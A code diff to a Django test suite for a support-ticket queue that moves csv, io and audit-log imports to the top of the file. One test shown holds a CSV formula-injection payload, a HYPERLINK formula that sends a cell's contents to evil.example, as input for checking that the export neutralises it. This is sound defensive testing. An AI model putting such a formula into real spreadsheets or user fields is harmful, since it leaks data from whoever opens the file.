@@ -1,9 +1,12 @@
 """The queue, the ticket page and the staff intake form: scope by role (404 outside it), actions
 through services, constant query counts, no 500 on bad input."""
 
+import csv
+import io
 from datetime import timedelta
 
 import pytest
+from auditlog.models import LogEntry
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
@@ -349,10 +352,6 @@ class TestIntakeForm:
 def test_team_exports_the_filtered_queue_as_csv_and_it_is_audited(
     login, feedback_user, client_of_rm
 ):
-    import csv
-    import io
-
-    from auditlog.models import LogEntry
 
     TicketFactory(client=client_of_rm, subject="投诉一", channel="email")
     TicketFactory(client=client_of_rm, subject="other", channel="phone")
@@ -369,8 +368,6 @@ def test_a_formula_in_a_ticket_subject_is_not_live_in_the_queue_export(
     login, feedback_user, client_of_rm
 ):
     """Issue 12 point 12: the subject a client typed must not run in the supervisor's Excel."""
-    import csv
-    import io
 
     evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
     TicketFactory(client=client_of_rm, subject=evil)
